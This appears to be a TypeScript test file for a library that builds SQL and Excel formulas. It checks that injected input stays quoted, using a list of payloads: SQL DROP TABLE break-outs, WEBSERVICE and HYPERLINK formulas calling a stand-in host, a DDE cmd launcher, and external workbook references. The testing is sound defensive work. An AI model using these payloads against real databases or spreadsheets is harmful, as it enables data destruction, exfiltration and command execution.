import { describe, expect, it } from 'vitest';
import { ArgumenTidakSah, keExcel, serapan } from '../../src/index.js';
import { ganti, letakDalam } from './letak.js';
import { PANGGILAN, semuaFungsi } from './panggilan.js';

/** What somebody would write into SQL or a formula; each has a word by which it is found again. */
const SUNTIKAN = [
  '2); DROP TABLE jahat; --',
  "a'); DROP TABLE jahat; --",
  'a"); DROP TABLE jahat; --',
  "a''); DROP TABLE jahat; --",
  "\\'); DROP TABLE jahat; --",
  '/* jahat */',
  '$$jahat$$',
  'a\u0000"; DROP TABLE jahat',
  'WEBSERVICE("http://jahat.example/"&A1)',
  '2))&HYPERLINK("http://jahat.example","x")&((1',
  '"&jahat()&"',
  "=cmd|' /C jahat'!A0",
  "'\\\\jahat\\berbagi\\[a.xlsx]S'!A1",
  "'file://jahat/berbagi/[a.xlsx]S'!A1",
  "'http://jahat.example/[a.xlsx]S'!A1",
  '[jahat.xlsx]S!A1',
] as const;

const PENULIS = ['keSql', 'keSqlAlasan', 'keSqlPecahan', 'keSqlRataRataCapaian', 'tabelMasukan', 'keExcel'] as const;

/** SQL and formulas without what they quote: names in "…", texts in '…' (SQL), and the other way round in a formula. */
const tanpaKutipan = (teks: string): string => teks.replace(/"(?:[^"]|"")*"|'(?:[^']|'')*'/g, '∎');

/** The expressions of an answer. */
const semuaTeks = (x: unknown): string[] =>
  typeof x === 'object' && x !== null ? Object.values(x).flatMap(semuaTeks) : [String(x)];

const daftar = PENULIS.flatMap((nama) => (PANGGILAN[nama] ?? []).map((isi, i) => [nama, i, isi] as const));

describe('what is written for others to run', () => {
  it.each(daftar)('%s (%i) says nothing that a caller wrote, but in quotes', (nama, _, isi) => {
    let tulisan = 0;
    for (const [i, x] of isi.entries()) {
      for (const jalan of [[], ...letakDalam(x, 300)]) {
        for (const jahat of SUNTIKAN) {
          const panggil = () => semuaFungsi.get(nama)?.(...isi.map((y, j) => (i === j ? ganti(y, jalan, jahat) : y)));
          let jadi: unknown;
          try {
            jadi = panggil();
          } catch (galat) {
            expect(galat).toBeInstanceOf(ArgumenTidakSah);
            continue;
          }
          tulisan += 1;
          for (const teks of semuaTeks(jadi)) {
            expect(tanpaKutipan(teks), `${i}.${jalan.join('.')} ${jahat}`).not.toContain('jahat');
            if (nama === 'keExcel') expect(teks.replace(/"(?:[^"]|"")*"/g, '∎'), jahat).not.toContain('jahat');
          }
        }
      }
    }
    // Names, texts and reasons may be anything; so some of them are written.
    expect(tulisan).toBeGreaterThan(0);
  });

  it.each([
    "'\\\\server\\berbagi\\[a.xlsx]S'!A1",
    "'//server/berbagi/[a.xlsx]S'!A1",
    "'file://server/a.xlsx'!A1",
    "'https://server/[a.xlsx]S'!A1",
    "'C:\\data\\[a.xlsx]S'!A1",
    "'[a.xlsx]S'!A1",
    '[1]S!A1',
    'DDE!A1:B2!C3',
    'A1,B1',
    'A1 B1',
    'R1C1',
    '#REF!',
  ])('keExcel refuses the address %s', (acuan) => {
    expect(() => keExcel(serapan, { P: acuan, A: 'B1' })).toThrow(/bukan acuan sel; tulis seperti B2/);
  });

  it('keExcel takes the names that a sheet can have', () => {
    for (const acuan of ['B2', '$B$2', 'Data_2022!C3', "'Data 2022'!C3", "'Dinas ''A'', B'!C3"]) {
      expect(keExcel(serapan, { P: acuan, A: 'B1' })).toContain(`COUNT(${acuan})`);
    }
    expect(() => keExcel(serapan, { P: 'A1', A: 'B1', pagu: 'C1' } as never)).toThrow(
      'keExcel: acuanSel.pagu tidak dikenal',
    );
  });
});
